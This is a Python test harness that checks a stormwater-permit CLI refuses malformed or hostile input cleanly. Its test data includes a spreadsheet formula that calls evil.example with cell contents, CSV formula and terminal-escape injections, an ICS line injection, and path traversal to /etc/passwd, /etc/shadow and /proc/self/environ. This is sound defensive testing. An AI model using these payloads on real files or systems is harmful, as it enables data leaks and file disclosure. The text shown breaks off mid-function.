"""The attack harness (issue 24 item 11): every kind of input of the reliability review, each
checked to be refused cleanly (exit 2, one line on stderr, nothing on stdout, every watched
file unchanged and no file added) or to succeed correctly (exit 0 and a checked output).

Kinds: malformed scenarios, malformed project files, hostile names, output paths, links and
locks, bounds, concurrency. The figures are in docs/RELIABILITY.md. Each case runs in its own
folder through ``workbench.cli.main`` in process; the ``slow`` tests at the end repeat the
rows that need a real process (C-level stderr lines, stdout encodings).
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from workbench.cli import main
from workbench.core.scenario import load
from workbench.core.store import close_project, new_project, open_project, save_project

ROOT = Path(__file__).resolve().parents[2]
BASE: dict[str, Any] = json.loads((ROOT / "resources/demo/signal_hill.json").read_text("utf-8"))
REFUSE, OK = "refused", "succeeded"

Setup = Callable[[Path], Any]
Check = Callable[[Path, str], None]


@dataclass
class Case:
    kind: str
    name: str
    argv: list[str]  # "{d}" stands for the case's folder
    expect: str
    setup: Setup | None = None
    check: Check | None = None
    hold: str | None = None  # a project file held open (locked) while the command runs
    watched: list[str] = field(default_factory=list)


# --------------------------------------------------------------------------- fixtures in a folder
def scenario(**changes: Any) -> dict[str, Any]:
    data = json.loads(json.dumps(BASE))
    for dotted, value in changes.items():
        target = data
        *parents, last = dotted.split("__")
        for key in parents:
            target = target[int(key)] if isinstance(target, list) else target[key]
        if isinstance(target, list):
            target[int(last)] = value
        else:
            target[last] = value
    return data


def write_json(path: Path, data: Any) -> Path:
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def base_files(d: Path) -> None:
    write_json(d / "s.json", BASE)
    make_project(d / "P.swproj")


def make_project(path: Path, names: tuple[str, ...] = ("Site A", "Site B")) -> Path:
    project = new_project(path.stem)
    for name in names:
        project.add_site(load(ROOT / "resources/demo/signal_hill.json"), name=name)
    save_project(project, path)
    close_project(project)
    return path


def snapshot(d: Path) -> dict[str, str]:
    out = {}
    for path in sorted(d.rglob("*")):
        if path.is_symlink():
            out[str(path)] = "->" + os.readlink(path)
        elif path.is_file() and path.stat().st_size > 32 * 1024 * 1024:  # the sparse files
            st = path.stat()
            out[str(path)] = f"{st.st_size} bytes, modified {st.st_mtime_ns}"
        elif path.is_file():
            out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        elif path.is_dir():
            out[str(path)] = "dir"
        else:
            out[str(path)] = "special"
    return out


class Hung(Exception):
    pass


def _hung(_signum: int, _frame: Any) -> None:
    raise Hung("the command did not finish within 60 s")


def run_cli(argv: list[str]) -> tuple[int, str, str]:
    """Run the command line in process; a command that hangs fails the case after 60 s."""
    out, err = io.StringIO(), io.StringIO()
    alarm = hasattr(signal, "SIGALRM")
    if alarm:
        previous = signal.signal(signal.SIGALRM, _hung)
        signal.alarm(60)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(argv)
    finally:
        if alarm:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, previous)
    return code, out.getvalue(), err.getvalue()


# --------------------------------------------------------------------------- output checks
def json_out(_d: Path, stdout: str) -> None:
    data = json.loads(stdout)
    assert data, "empty JSON"
    assert stdout.isascii() or "\\u" not in stdout


def clean_text(_d: Path, stdout: str) -> None:
    bad = [c for c in stdout if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, f"control characters in terminal output: {bad[:5]}"


def xlsx_ok(name: str) -> Check:
    def check(d: Path, _stdout: str) -> None:
        from openpyxl import load_workbook

        wb = load_workbook(d / name)
        assert {"findings", "sizing", "deadlines", "penalties", "about"} <= set(wb.sheetnames)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}"

    return check


def csv_ok(stem: str) -> Check:
    def check(d: Path, _stdout: str) -> None:
        for table in ("findings", "sizing", "deadlines", "penalties"):
            with (d / f"{stem}-{table}.csv").open(encoding="utf-8-sig", newline="") as f:
                rows = list(csv.reader(f))
            assert rows[0][0] == "site"
            for row in rows[1:]:
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@")), cell

    return check


def ics_ok(name: str) -> Check:
    def check(d: Path, _stdout: str) -> None:
        import icalendar

        raw = (d / name).read_bytes()
        assert not [b for b in raw.replace(b"\r\n", b"") if b < 32 and b != 9], "CTL in .ics"
        assert icalendar.Calendar.from_ical(raw).walk("VEVENT")

    return check


def scenario_ok(name: str) -> Check:
    def check(d: Path, _stdout: str) -> None:
        load(d / name)

    return check


def both(*checks: Check) -> Check:
    def check(d: Path, stdout: str) -> None:
        for c in checks:
            c(d, stdout)

    return check


# --------------------------------------------------------------------------- the cases
def _scenario_file(data: Any, raw: bytes | None = None) -> Setup:
    def setup(d: Path) -> None:
        base_files(d)
        if raw is not None:
            (d / "t.json").write_bytes(raw)
        else:
            write_json(d / "t.json", data)

    return setup


BAD_DATES = [
    "0001-01-01",
    "0001-01-03",
    "1899-12-31",
    "2200-01-01",
    "9999-12-31",
    "2025-02-29",
    "2025-13-01",
    "2025-00-10",
    "garbage",
    "",
    "2025-03-01T10:00+02:00",
    "9999-12-31T23:00",
]
GOOD_DATES = ["1990-01-01", "1990-06-01", "2025-03-14", "2100-06-30", "2024-02-29"]
# dates the scenario format accepts but the calendar's pinned holiday list (1990-2100) does
# not cover: deadlines counted from them are refused with one line naming the event
OUTSIDE_CALENDAR = ["1900-01-01", "2101-01-01", "2199-12-31"]
# ... and the day before the list starts: Signal Hill's discharge deadlines (calendar days and
# hours) all fall within the list, so they are counted and the result is right
JUST_BEFORE_CALENDAR = "1989-12-31"


def malformed_scenarios() -> list[Case]:
    raws = {
        "empty": b"",
        "open brace": b"{",
        "array": b"[]",
        "null": b"null",
        "number": b"1",
        "string": b'"x"',
        "trailing comma": b'{"format": "workbench-scenario/1",}',
        "NaN": b'{"format": "workbench-scenario/1", "site": {"parcel_area_sqft": NaN}}',
        "Infinity": b'{"format": "workbench-scenario/1", "site": {"parcel_area_sqft": Infinity}}',
        "-Infinity": b'{"format": "workbench-scenario/1", "rainfall": {"p85_24hr_in": -Infinity}}',
        "1e400": b'{"format": "workbench-scenario/1", "site": {"parcel_area_sqft": 1e400}}',
        "latin-1": '{"format": "workbench-scenario/1", "name": "caf\xe9"}'.encode("latin-1"),
        "lone surrogate": b'{"format": "workbench-scenario/1", "name": "\\ud800"}',
        "deep nesting": b'{"format": "workbench-scenario/1", "forms": {"a": '
        + b'{"b": ' * 60
        + b"1"
        + b"}" * 62,
        "binary": bytes(range(256)),
        "dup top name": b'{"format": "workbench-scenario/1", "name": "a", "name": "b"}',
        "dup format": b'{"format": "workbench-scenario/1", "format": "workbench-scenario/1"}',
        "dup site area": b'{"format": "workbench-scenario/1", "site": {"disturbed_area_sqft": 500,'
        b' "disturbed_area_sqft": 50000}}',
        "dup rainfall": b'{"format": "workbench-scenario/1", "rainfall": {}, "rainfall": {}}',
        "dup in event": b'{"format": "workbench-scenario/1", "events": [{"kind": "x", '
        b'"at": "2025-01-01", "at": "2025-02-01"}]}',
        "dup in area": b'{"format": "workbench-scenario/1", "drainage_areas": [{"name": "a", '
        b'"name": "b", "area_sqft": 1}]}',
    }
    cases = [
        Case(
            "malformed scenario",
            f"raw {k}",
            ["evaluate", "{d}/t.json", "--json"],
            REFUSE,
            _scenario_file(None, v),
        )
        for k, v in raws.items()
    ]
    fields: list[tuple[str, dict[str, Any]]] = [
        ("format missing", {"format": None}),
        ("format wrong", {"format": "workbench-scenario/2"}),
        ("format number", {"format": 1}),
        ("unknown top field", {"colour": "red"}),
        ("unknown site field", {"site__colour": "red"}),
        ("unknown area field", {"drainage_areas__0__colour": "red"}),
        ("negative area", {"site__disturbed_area_sqft": -1}),
        ("area as text", {"site__disturbed_area_sqft": "500"}),
        ("area as bool", {"site__disturbed_area_sqft": True}),
        ("area as list", {"site__disturbed_area_sqft": [1]}),
        ("fraction 1.5", {"drainage_areas__0__impervious_fraction": 1.5}),
        ("fraction -0.1", {"drainage_areas__0__impervious_fraction": -0.1}),
        ("percent 101", {"site__forecast_rain_probability_pct": 101}),
        ("risk level 4", {"site__risk_level": 4}),
        ("risk level 0", {"site__risk_level": 0}),
        ("zone 11", {"site__watershed_management_zone": 11}),
        ("count -1", {"site__parking_spaces": -1}),
        ("count 1000001", {"site__parking_spaces": 1_000_001}),
        ("count 1.5", {"site__parking_spaces": 1.5}),
        ("violation days 36501", {"violations__0__days": 36_501}),
        ("violation days 0", {"violations__0__days": 0}),
        ("violation count 1000001", {"violations__0__count": 1_000_001}),
        ("violation count 10**12", {"violations__0__count": 10**12}),
        ("site is a list", {"site": []}),
        ("events is an object", {"events": {}}),
        ("areas is text", {"drainage_areas": "x"}),
        ("area without name", {"drainage_areas": [{"area_sqft": 1}]}),
        ("name too long", {"name": "x" * 10_001}),
        (
            "1001 drainage areas",
            {"drainage_areas": [{"name": f"a{i}", "area_sqft": 10} for i in range(1001)]},
        ),
        ("1001 events", {"events": [{"kind": "inspection_scheduled", "at": "2025-11-24"}] * 1001}),
        ("closure is a date-time", {"closures": ["2025-03-01T10:00"]}),
        ("as_of is a date-time", {"as_of": "2025-03-01T10:00"}),
        ("parameter is text", {"parameters": {"x": "big"}}),
        ("jurisdiction unknown", {"jurisdiction": "atlantis"}),
    ]
    for date_text in OUTSIDE_CALENDAR:
        fields.append((f"event at {date_text!r} (calendar)", {"events__0__at": date_text}))
    for date_text in BAD_DATES:
        fields.append((f"as_of {date_text!r}", {"as_of": date_text}))
        fields.append((f"event at {date_text!r}", {"events__0__at": date_text}))
        fields.append((f"closure {date_text!r}", {"closures": [date_text]}))
    for name, changes in fields:
        data = scenario(**{k: v for k, v in changes.items() if v is not None})
        if changes.get("format", "") is None:
            data.pop("format")
        cases.append(
            Case(
                "malformed scenario",
                name,
                ["evaluate", "{d}/t.json", "--json"],
                REFUSE,
                _scenario_file(data),
            )
        )

    def fifo(d: Path) -> None:
        base_files(d)
        os.mkfifo(d / "t.json")

    def sparse(d: Path) -> None:
        base_files(d)
        with (d / "t.json").open("wb") as f:
            f.truncate(25_000_000)

    def folder(d: Path) -> None:
        base_files(d)
        (d / "t.json").mkdir()

    specials: list[tuple[str, list[str], Setup]] = [
        ("FIFO", ["evaluate", "{d}/t.json"], fifo),
        ("25 MB sparse file", ["evaluate", "{d}/t.json"], sparse),
        ("a folder", ["evaluate", "{d}/t.json"], folder),
        ("missing file", ["evaluate", "{d}/missing.json"], base_files),
        ("/dev/zero", ["evaluate", "/dev/zero"], base_files),
        ("/dev/null", ["evaluate", "/dev/null"], base_files),
        ("/proc/self/environ", ["evaluate", "/proc/self/environ"], base_files),
        ("FIFO compare", ["compare", "{d}/t.json"], fifo),
        ("FIFO export", ["export", "{d}/t.json", "--xlsx", "{d}/o.xlsx"], fifo),
        ("FIFO import", ["import", "{d}/t.json", "--project", "{d}/P.swproj"], fifo),
        ("sparse import", ["import", "{d}/t.json", "--project", "{d}/P.swproj"], sparse),
        ("FIFO report", ["report", "{d}/t.json", "--out", "{d}/o.pdf"], fifo),
    ]
    for name, argv, setup in specials:
        if name.startswith("/proc") and not Path("/proc/self/environ").exists():
            continue
        if "FIFO" in name and not hasattr(os, "mkfifo"):
            continue
        cases.append(Case("malformed scenario", name, argv, REFUSE, setup))
    return cases


def good_scenarios() -> list[Case]:
    cases = []
    for date_text in GOOD_DATES:
        for field_name in ("as_of", "events__0__at"):
            data = scenario(**{field_name: date_text})
            cases.append(
                Case(
                    "scenario (valid edge)",
                    f"{field_name} {date_text}",
                    ["evaluate", "{d}/t.json", "--json"],
                    OK,
                    _scenario_file(data),
                    json_out,
                )
            )
    cases.append(
        Case(
            "scenario (valid edge)",
            "UTF-16 with a byte-order mark",
            ["evaluate", "{d}/t.json", "--json"],
            OK,
            _scenario_file(None, json.dumps(BASE).encode("utf-16")),
            json_out,
        )
    )
    cases.append(
        Case(
            "scenario (valid edge)",
            f"event at {JUST_BEFORE_CALENDAR} (calendar days into the list)",
            ["evaluate", "{d}/t.json", "--json"],
            OK,
            _scenario_file(scenario(events__0__at=JUST_BEFORE_CALENDAR)),
            json_out,
        )
    )
    many = scenario(drainage_areas=[{"name": f"a{i}", "area_sqft": 10} for i in range(1000)])
    cases.append(
        Case(
            "scenario (valid edge)",
            "1000 drainage areas",
            ["evaluate", "{d}/t.json", "--json"],
            OK,
            _scenario_file(many),
            json_out,
        )
    )
    cases.append(
        Case(
            "scenario (valid edge)",
            "violation days 36500",
            ["evaluate", "{d}/t.json", "--json"],
            OK,
            _scenario_file(scenario(violations__0__days=36_500)),
            json_out,
        )
    )
    cases.append(
        Case(
            "scenario (valid edge)",
            "violation count 1000000",
            ["evaluate", "{d}/t.json", "--json"],
            OK,
            _scenario_file(scenario(violations__0__count=1_000_000)),
            json_out,
        )
    )
    for demo in ("del_mar", "livingston", "signal_hill", "soledad"):
        for argv in (
            ["evaluate", str(ROOT / f"resources/demo/{demo}.json"), "--json"],
            ["evaluate", str(ROOT / f"resources/demo/{demo}.json")],
            ["compare", str(ROOT / f"resources/demo/{demo}.json"), "--json"],
        ):
            check = json_out if "--json" in argv else clean_text
            cases.append(
                Case(
                    "scenario (valid edge)",
                    f"{demo} {argv[0]} {argv[-1][-6:]}",
                    argv,
                    OK,
                    base_files,
                    check,
                )
            )
    return cases


HOSTILE_NAMES = {
    "hyperlink formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "sum formula": "=2+2",
    "plus": "+1 555 0100",
    "minus": "-2+3",
    "at": "@A1",
    "tab first": "\t=1",
    "clear screen": "\x1b[2J\x1b[H cleared",
    "bell and vt": "bell\x07 vt\x0b",
    "nul": "nul\x00byte",
    "c1 control": "csi\x9b31m red",
    "vietnamese": "Nguyễn Phát market",
    "crlf injection": "a\r\nBEGIN:VEVENT\r\nSUMMARY:x",
    "rtl override": "\u202egnp.exe",
    "long": "L" * 2000,
}


def hostile_names() -> list[Case]:
    cases = []
    for label, text in HOSTILE_NAMES.items():
        data = scenario(name=text, drainage_areas__0__name=text, events__0__note=text)
        setup = _scenario_file(data)
        cases += [
            Case(
                "hostile name",
                f"{label} xlsx",
                ["export", "{d}/t.json", "--xlsx", "{d}/o.xlsx"],
                OK,
                setup,
                xlsx_ok("o.xlsx"),
            ),
            Case(
                "hostile name",
                f"{label} csv",
                ["export", "{d}/t.json", "--csv", "{d}/o.csv"],
                OK,
                setup,
                csv_ok("o"),
            ),
            Case(
                "hostile name",
                f"{label} ics",
                ["export", "{d}/t.json", "--ics", "{d}/o.ics"],
                OK,
                setup,
                ics_ok("o.ics"),
            ),
            Case(
                "hostile name", f"{label} text", ["evaluate", "{d}/t.json"], OK, setup, clean_text
            ),
            Case(
                "hostile name",
                f"{label} json",
                ["evaluate", "{d}/t.json", "--json"],
                OK,
                setup,
                json_out,
            ),
        ]
    return cases


def _out_setup(kind: str) -> Setup:
    def setup(d: Path) -> None:
        base_files(d)
        if kind == "symlink to input":
            (d / "link.out").symlink_to(d / "s.json")
        elif kind == "hard link to input":
            os.link(d / "s.json", d / "hard.out")
        elif kind == "project under another name":
            make_project(d / "other.dat")
        elif kind == "a folder":
            (d / "dir.out").mkdir()
        elif kind == "FIFO":
            os.mkfifo(d / "fifo.out")
        elif kind == "under a file":
            (d / "file.txt").write_text("x")
        elif kind == "symlink to project":
            (d / "plink.out").symlink_to(d / "P.swproj")

    return setup


OUT_TARGETS = {
    "empty name": "",
    "blank name": " ",
    "input itself": "{d}/s.json",
    "input by another spelling": "{d}/./s.json",
    "symlink to input": "{d}/link.out",
    "hard link to input": "{d}/hard.out",
    "new .swproj": "{d}/new.swproj",
    "existing project": "{d}/P.swproj",
    "upper-case .SWPROJ": "{d}/P.SWPROJ",
    "project under another name": "{d}/other.dat",
    "symlink to project": "{d}/plink.out",
    "missing folder": "{d}/nope/out.x",
    "a folder": "{d}/dir.out",
    "/dev/full": "/dev/full",
    "/dev/null": "/dev/null",
    "FIFO": "{d}/fifo.out",
    "under a file": "{d}/file.txt/out.x",
}


def output_paths() -> list[Case]:
    cases = []
    commands = {
        "ics": ["export", "{d}/s.json", "--ics"],
        "xlsx": ["export", "{d}/s.json", "--xlsx"],
        "csv": ["export", "{d}/s.json", "--csv"],
        "scenario": ["export", "{d}/s.json", "--scenario"],
        "report": ["report", "{d}/s.json", "--out"],
    }
    for label, target in OUT_TARGETS.items():
        if label == "FIFO" and not hasattr(os, "mkfifo"):
            continue
        if label.startswith("/dev") and not Path(target).exists():
            continue
        for command, argv in commands.items():
            if command == "csv" and label in ("input itself", "symlink to input"):
                pass
            cases.append(
                Case(
                    "output path",
                    f"{command} to {label}",
                    [*argv, target],
                    REFUSE,
                    _out_setup(label),
                )
            )
    # a project as the input, and itself (or another project) as the output
    for command, flag in (
        ("export", "--ics"),
        ("export", "--xlsx"),
        ("export", "--csv"),
        ("report", "--out"),
    ):
        cases.append(
            Case(
                "output path",
                f"{command} {flag} project onto itself",
                [command, "{d}/P.swproj", flag, "{d}/P.swproj"],
                REFUSE,
                base_files,
            )
        )
    cases.append(
        Case(
            "output path",
            "export --scenario project onto another project",
            ["export", "{d}/P.swproj", "--scenario", "{d}/Q.swproj", "--site", "Site A"],
            REFUSE,
            lambda d: (base_files(d), make_project(d / "Q.swproj")),
        )
    )
    cases.append(
        Case(
            "output path",
            "export --scenario project onto itself",
            ["export", "{d}/P.swproj", "--scenario", "{d}/P.swproj", "--site", "Site A"],
            REFUSE,
            base_files,
        )
    )
    # good outputs, new and replacing an old file
    for label, old in (("new", False), ("replacing", True)):

        def setup(d: Path, old: bool = old) -> None:
            base_files(d)
            if old:
                for name in ("o.ics", "o.xlsx", "o.json", "o-findings.csv"):
                    (d / name).write_bytes(b"old contents")

        cases += [
            Case(
                "output path",
                f"ics {label}",
                ["export", "{d}/s.json", "--ics", "{d}/o.ics"],
                OK,
                setup,
                ics_ok("o.ics"),
            ),
            Case(
                "output path",
                f"xlsx {label}",
                ["export", "{d}/s.json", "--xlsx", "{d}/o.xlsx"],
                OK,
                setup,
                xlsx_ok("o.xlsx"),
            ),
            Case(
                "output path",
                f"csv {label}",
                ["export", "{d}/s.json", "--csv", "{d}/o.csv"],
                OK,
                setup,
                csv_ok("o"),
            ),
            Case(
                "output path",
                f"scenario {label}",
                ["export", "{d}/P.swproj", "--scenario", "{d}/o.json", "--site", "Site A"],
                OK,
                setup,
                scenario_ok("o.json"),
            ),
            Case(
                "output path",
                f"project xlsx {label}",
                ["export", "{d}/P.swproj", "--xlsx", "{d}/o.xlsx"],
                OK,
                setup,
                xlsx_ok("o.xlsx"),
            ),
        ]
    spaced = "{d}/a folder ñ/o.ics"
    cases.append(
        Case(
            "output path",
            "folder with spaces and accents",
            ["export", "{d}/s.json", "--ics", spaced],
            OK,
            lambda d: (base_files(d), (d / "a folder ñ").mkdir()),
            lambda d, _s: ics_ok("a folder ñ/o.ics")(d, _s),
        )
    )
    return cases


def links_and_locks() -> list[Case]:
    def symlinked(d: Path) -> None:
        base_files(d)
        (d / "link.swproj").symlink_to(d / "P.swproj")

    def hardlinked(d: Path) -> None:
        base_files(d)
        (d / "other").mkdir()
        os.link(d / "P.swproj", d / "other" / "hard.swproj")

    def planted_symlink(d: Path) -> None:
        base_files(d)
        (d / "victim.txt").write_text("precious\n" * 900)
        (d / "P.swproj.lock").symlink_to(d / "victim.txt")

    def planted_dangling(d: Path) -> None:
        base_files(d)
        (d / "P.swproj.lock").symlink_to(d / "created-by-the-lock.txt")

    def planted_hardlink(d: Path) -> None:
        base_files(d)
        (d / "victim.txt").write_text("precious\n" * 900)
        os.link(d / "victim.txt", d / "P.swproj.lock")

    def planted_garbage(d: Path) -> None:
        base_files(d)
        (d / "P.swproj.lock").write_bytes(b"not a lock file, someone's notes")

    def stale_lock(d: Path) -> None:
        base_files(d)
        (d / "P.swproj.lock").write_text(json.dumps({"pid": 999999999, "host": "gone"}))

    imp = ["import", "{d}/s.json", "--project"]
    cases = [
        Case(
            "links",
            "import via symlink while open",
            [*imp, "{d}/link.swproj"],
            REFUSE,
            symlinked,
            hold="{d}/P.swproj",
        ),
        Case(
            "links",
            "import to real while open via symlink",
            [*imp, "{d}/P.swproj"],
            REFUSE,
            symlinked,
            hold="{d}/link.swproj",
        ),
        Case(
            "links",
            "import via hard link while open",
            [*imp, "{d}/other/hard.swproj"],
            REFUSE,
            hardlinked,
            hold="{d}/P.swproj",
        ),
        Case(
            "links",
            "import to real while open via hard link",
            [*imp, "{d}/P.swproj"],
            REFUSE,
            hardlinked,
            hold="{d}/other/hard.swproj",
        ),
        Case(
            "links",
            "import while open",
            [*imp, "{d}/P.swproj"],
            REFUSE,
            base_files,
            hold="{d}/P.swproj",
        ),
        Case(
            "links", "symlink planted as lock file", [*imp, "{d}/P.swproj"], REFUSE, planted_symlink
        ),
        Case(
            "links",
            "dangling symlink planted as lock file",
            [*imp, "{d}/P.swproj"],
            REFUSE,
            planted_dangling,
        ),
        Case(
            "links",
            "hard link planted as lock file",
            [*imp, "{d}/P.swproj"],
            REFUSE,
            planted_hardlink,
        ),
        Case("links", "other file as lock file", [*imp, "{d}/P.swproj"], REFUSE, planted_garbage),
        Case("links", "stale lock of a dead workbench", [*imp, "{d}/P.swproj"], OK, stale_lock),
        Case("links", "import via symlink", [*imp, "{d}/link.swproj"], OK, symlinked),
        Case("links", "import into a text file", [*imp, "{d}/s.json"], REFUSE, base_files),
        Case("links", "import into a folder", [*imp, "{d}"], REFUSE, base_files),
        Case(
            "links",
            "import a project",
            ["import", "{d}/P.swproj", "--project", "{d}/n.swproj"],
            REFUSE,
            base_files,
        ),
        Case(
            "links", "import into a missing folder", [*imp, "{d}/no/n.swproj"], REFUSE, base_files
        ),
    ]
    if os.name != "posix":
        cases = [c for c in cases if "hard" not in c.name]
    return cases


def bad_projects() -> list[Case]:
    def make(kind: str) -> Setup:
        def setup(d: Path) -> None:
            base_files(d)
            bad = d / "bad.swproj"
            good = (d / "P.swproj").read_bytes()
            if kind == "empty":
                bad.write_bytes(b"")
            elif kind == "text":
                bad.write_text("hello")
            elif kind == "random bytes":
                bad.write_bytes(os.urandom(4096))
            elif kind == "truncated":
                bad.write_bytes(good[:1500])
            elif kind == "header only":
                bad.write_bytes(good[:100])
            elif kind == "foreign sqlite":
                conn = sqlite3.connect(bad)
                conn.execute("CREATE TABLE t (x)")
                conn.commit()
                conn.close()
            elif kind == "newer schema":
                bad.write_bytes(good)
                conn = sqlite3.connect(bad)
                conn.execute("PRAGMA user_version = 99")
                conn.close()
            elif kind == "trigger":
                bad.write_bytes(good)
                conn = sqlite3.connect(bad)
                conn.execute("CREATE TRIGGER t AFTER INSERT ON meta BEGIN SELECT 1; END")
                conn.commit()
                conn.close()
            elif kind == "bad scenario json":
                bad.write_bytes(good)
                conn = sqlite3.connect(bad)
                conn.execute("UPDATE site SET scenario_json = '{not json'")
                conn.commit()
                conn.close()
            elif kind == "a folder":
                bad.mkdir()
            elif kind == "FIFO":
                os.mkfifo(bad)

        return setup

    kinds = [
        "empty",
        "text",
        "random bytes",
        "truncated",
        "header only",
        "foreign sqlite",
        "newer schema",
        "trigger",
        "bad scenario json",
        "a folder",
    ]
    if hasattr(os, "mkfifo"):
        kinds.append("FIFO")
    cases = []
    for kind in kinds:
        for argv in (
            ["evaluate", "{d}/bad.swproj", "--json"],
            ["export", "{d}/bad.swproj", "--xlsx", "{d}/o.xlsx"],
            ["import", "{d}/s.json", "--project", "{d}/bad.swproj"],
        ):
            # a site whose stored text is damaged is refused when it is read; adding another
            # site to that project leaves the damaged one as it is and succeeds
            expect = OK if (kind, argv[0]) == ("bad scenario json", "import") else REFUSE
            cases.append(
                Case("malformed project file", f"{kind} {argv[0]}", argv, expect, make(kind))
            )
    return cases


def bounds() -> list[Case]:
    cases = []
    pen = ["penalty", "--jurisdiction", "signal_hill"]
    for days, violations, expect in [
        (0, 1, REFUSE),
        (-1, 1, REFUSE),
        (1, 0, REFUSE),
        (1, -5, REFUSE),
        (36_501, 1, REFUSE),
        (10**12, 1, REFUSE),
        (100_000_000, 1, REFUSE),
        (1, 1_000_001, REFUSE),
        (1, 10**12, REFUSE),
        (10**12, 10**12, REFUSE),
        (1, 1, OK),
        (36_500, 1, OK),
        (1, 1_000_000, OK),
        (36_500, 1_000_000, OK),
        (30, 3, OK),
    ]:
        argv = [*pen, "--days", str(days), "--violations", str(violations), "--json"]
        cases.append(
            Case(
                "bounds",
                f"penalty days={days} violations={violations}",
                argv,
                expect,
                base_files,
                json_out if expect == OK else None,
            )
        )
    for text in ["1e3", "x", "1.5", ""]:
        cases.append(
            Case(
                "bounds",
                f"penalty days {text!r}",
                [*pen, "--days", text, "--violations", "1"],
                REFUSE,
                base_files,
            )
        )
    dl = ["deadline", "--jurisdiction", "signal_hill", "--rule", "discharge_written_report"]
    for text in OUTSIDE_CALENDAR:
        cases.append(
            Case("bounds", f"deadline --from {text!r}", [*dl, "--from", text], REFUSE, base_files)
        )
    for text in BAD_DATES:
        cases.append(
            Case("bounds", f"deadline --from {text!r}", [*dl, "--from", text], REFUSE, base_files)
        )
        cases.append(
            Case(
                "bounds",
                f"evaluate --as-of {text!r}",
                ["evaluate", "{d}/s.json", "--as-of", text],
                REFUSE,
                base_files,
            )
        )
    for text in GOOD_DATES + ["2100-06-30T23:00", "1990-06-01T00:00", JUST_BEFORE_CALENDAR]:
        cases.append(
            Case(
                "bounds",
                f"deadline --from {text!r}",
                [*dl, "--from", text, "--json"],
                OK,
                base_files,
                json_out,
            )
        )
    for text in GOOD_DATES:
        cases.append(
            Case(
                "bounds",
                f"evaluate --as-of {text!r}",
                ["evaluate", "{d}/s.json", "--as-of", text, "--json"],
                OK,
                base_files,
                json_out,
            )
        )
    soledad = ["deadline", "--jurisdiction", "soledad", "--rule", "hearing_notice"]
    cases.append(
        Case(
            "bounds",
            "soledad before-deadline from 1990-06-01",
            [*soledad, "--from", "1990-06-01", "--json"],
            OK,
            base_files,
            json_out,
        )
    )
    cases.append(
        Case(
            "bounds",
            "soledad before-deadline from 0001-01-03",
            [*soledad, "--from", "0001-01-03"],
            REFUSE,
            base_files,
        )
    )
    cases += [
        Case(
            "bounds",
            "check-citations missing folder",
            ["check-citations", "--ordinance-dir", "{d}/nonexistent"],
            REFUSE,
            base_files,
        ),
        Case(
            "bounds",
            "check-citations a file",
            ["check-citations", "--ordinance-dir", "{d}/s.json"],
            REFUSE,
            base_files,
        ),
        Case(
            "bounds",
            "unknown jurisdiction",
            [*pen[:1], "--jurisdiction", "atlantis", "--days", "1", "--violations", "1"],
            REFUSE,
            base_files,
        ),
        Case(
            "bounds",
            "unknown deadline rule",
            ["deadline", "--jurisdiction", "signal_hill", "--rule", "nope", "--from", "2025-01-01"],
            REFUSE,
            base_files,
        ),
        Case("bounds", "no sub-command", ["--nope"], REFUSE, base_files),
        Case(
            "bounds",
            "--site without --scenario",
            ["export", "{d}/P.swproj", "--xlsx", "{d}/o.xlsx", "--site", "A"],
            REFUSE,
            base_files,
        ),
        Case(
            "bounds",
            "unknown site",
            ["export", "{d}/P.swproj", "--scenario", "{d}/o.json", "--site", "Nope"],
            REFUSE,
            base_files,
        ),
        Case(
            "bounds",
            "screenshot --out a file",
            ["screenshot", "--out", "{d}/s.json"],
            REFUSE,
            base_files,
        ),
    ]
    return cases


RAIN_RECORD = (ROOT / "resources/rainfall/synthetic_hourly.csv").read_text("utf-8")
IEM_DOWNLOAD = "station,network,valid,precip_in\nXYZ,CA_ASOS,2020-01-01 00:00,0.01\n"


def rainfall_records() -> list[Case]:
    """Review rows #9 and #12 and issue 24 item 4: a rainfall record that is not a regular
    record file is refused wherever a record is read (``rainfall import``, ``report``,
    ``extract``; evaluate, export and report of a scenario or project naming it): exit 2, one
    line naming the file and the problem, quoting nothing of its content, nothing written."""
    livingston = json.loads((ROOT / "resources/demo/livingston.json").read_text("utf-8"))
    planted: dict[str, Callable[[Path], str]] = {
        "/proc/self/environ": lambda d: "/proc/self/environ",
        "../etc/passwd": lambda d: "../../../../../../../../etc/passwd",
        "/dev/zero": lambda d: "/dev/zero",
        "a folder": lambda d: str(d),
        "empty file": lambda d: _planted(d, b""),
        "binary file": lambda d: _planted(d, b"\x00\x01\x02PK\x03\x04"),
        "not CSV text": lambda d: _planted(d, b"PATH=/secret\nHOME=/root\n"),
        "date backwards": lambda d: _planted(
            d, b"timestamp,inches\n2001-01-01T05:00,0.1\n2001-01-01T04:00,0.2\n"
        ),
        "negative depth": lambda d: _planted(d, b"timestamp,inches\n2001-01-01T05:00,-1\n"),
        "unit unknown": lambda d: _planted(
            d,
            b"Stn Id,Stn Name,CIMIS Region,Date,Hour (PST),Jul,Precip,qc\n"
            b"2,FivePoints,SJV,1/1/2020,0100,1,0.01,\n",
        ),
        "300 MB sparse file": lambda d: _planted(d, None),
        "symlink to /etc/shadow": lambda d: _symlinked(d, "/etc/shadow"),
    }
    if hasattr(os, "mkfifo"):
        planted["FIFO"] = _fifo
    commands: dict[str, list[str]] = {
        "rainfall import": ["rainfall", "import", "{r}", "--out", "{d}/o.csv"],
        "rainfall import --project": [
            "rainfall",
            "import",
            "{r}",
            "--out",
            "{d}/o.csv",
            "--project",
            "{d}/P.swproj",
        ],
        "rainfall report": ["rainfall", "report", "{r}"],
        "evaluate scenario": ["evaluate", "{d}/t.json", "--json"],
        "evaluate project": ["evaluate", "{d}/R.swproj"],
        "export scenario": ["export", "{d}/t.json", "--xlsx", "{d}/o.xlsx"],
    }

    def setup_for(plant: Callable[[Path], str], needs: str) -> Setup:
        def setup(d: Path) -> None:
            base_files(d)
            record = plant(d)
